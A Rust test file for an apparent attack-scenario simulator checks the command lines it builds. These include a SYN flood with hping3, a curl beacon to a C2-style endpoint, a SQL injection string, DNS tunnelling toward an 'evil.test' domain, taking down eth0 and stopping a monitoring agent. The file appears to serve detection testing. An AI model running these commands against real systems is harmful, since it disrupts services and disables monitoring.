use simulateur::scenarios::executor::{
    build_command, live_command_parts, live_outcome, live_wait_secs, mock_display, mock_outcome,
    mock_wait_secs, ProcessRun,
};
use simulateur::scenarios::catalogue::known_scenarios;
use simulateur::scenarios::types::ExecuteOutcome;

#[test]
fn commands_with_target() {
    assert_eq!(build_command("ddos_syn", "10.0.0.5").unwrap(), "hping3 -S --flood -V 10.0.0.5");
    assert_eq!(build_command("port_interdit", "10.0.0.5").unwrap(), "nc -zv 10.0.0.5 4444");
    assert_eq!(
        build_command("contact_cc", "10.0.0.5").unwrap(),
        "curl -m 5 http://10.0.0.5:8080/beacon"
    );
    assert_eq!(
        build_command("scraping", "10.0.0.5").unwrap(),
        "curl -s http://10.0.0.5/page{1..300}"
    );
    assert_eq!(
        build_command("injection_sql", "10.0.0.5").unwrap(),
        "curl \"http://10.0.0.5/search?q=' OR 1=1--\""
    );
    assert_eq!(
        build_command("mot_de_passe_faible", "10.0.0.5").unwrap(),
        "curl -X POST -d '{\"pass\":\"123456\"}' http://10.0.0.5/auth"
    );
    assert_eq!(
        build_command("tunnel_dns", "10.0.0.5").unwrap(),
        "dig @10.0.0.5 $(python3 -c 'print(\"A\"*120+\".evil.test\")')"
    );
}

#[test]
fn commands_without_target() {
    assert_eq!(
        build_command("saturation", "10.0.0.5").unwrap(),
        "dd if=/dev/zero of=/var/tmp/sandbox_saturation.img bs=1M count=100"
    );
    assert_eq!(build_command("panne_reseau", "x").unwrap(), "ip link set dev eth0 down");
    assert_eq!(
        build_command("monitoring_fail", "x").unwrap(),
        "systemctl stop monitoring-agent.service"
    );
    assert_eq!(
        build_command("ransomware_sim", "10.0.0.5").unwrap(),
        "touch /tmp/sandbox/{1..50}.locked"
    );
}

#[test]
fn every_catalogue_scenario_has_a_command() {
    for s in known_scenarios() {
        assert!(build_command(&s.id, "192.168.99.5").is_ok(), "{}", s.id);
    }
}

#[test]
fn unknown_scenario_is_refused() {
    assert_eq!(build_command("teleport", "1.2.3.4"), Err("Scénario inconnu : teleport".to_string()));
    assert_eq!(build_command("", "1.2.3.4"), Err("Scénario inconnu : ".to_string()));
}

#[test]
fn mock_line_and_waits() {
    assert_eq!(mock_display("nmap -sS 1.2.3.4", 180), "[SIMULATION MOCK] nmap -sS 1.2.3.4 (max 180s)");
    assert_eq!(mock_display("", 0), "[SIMULATION MOCK]  (max 0s)");
    assert_eq!(mock_wait_secs(3), 3);
    assert_eq!(mock_wait_secs(5), 5);
    assert_eq!(mock_wait_secs(120), 5);
    assert_eq!(live_wait_secs(0), 1);
    assert_eq!(live_wait_secs(1), 1);
    assert_eq!(live_wait_secs(300), 300);
}

#[test]
fn verdicts_on_runs() {
    assert_eq!(mock_outcome(ProcessRun::Finished { success: true }), Ok(ExecuteOutcome::Success));
    assert_eq!(
        mock_outcome(ProcessRun::Finished { success: false }),
        Err("mock command failed".to_string())
    );
    assert_eq!(
        mock_outcome(ProcessRun::SpawnFailed("no echo".into())),
        Err("mock spawn: no echo".to_string())
    );
    assert_eq!(mock_outcome(ProcessRun::TimedOut), Ok(ExecuteOutcome::Success));
    assert_eq!(live_outcome(ProcessRun::Finished { success: false }), Ok(ExecuteOutcome::Success));
    assert_eq!(live_outcome(ProcessRun::TimedOut), Ok(ExecuteOutcome::Success));
    assert_eq!(
        live_outcome(ProcessRun::SpawnFailed("not found".into())),
        Err("live spawn: not found".to_string())
    );
}

#[test]
fn live_command_words() {
    assert_eq!(
        live_command_parts("  nc   -zv\t10.0.0.5 4444 ").unwrap(),
        vec!["nc", "-zv", "10.0.0.5", "4444"]
    );
    assert_eq!(live_command_parts("echo").unwrap(), vec!["echo"]);
    assert_eq!(live_command_parts(""), Err("commande vide".to_string()));
    assert_eq!(live_command_parts(" \n\t "), Err("commande vide".to_string()));
    let line = build_command("ddos_syn", "10.0.0.5").unwrap();
    let words: Vec<String> = line.split_whitespace().map(|w| w.to_string()).collect();
    assert_eq!(live_command_parts(&line).unwrap(), words);
}
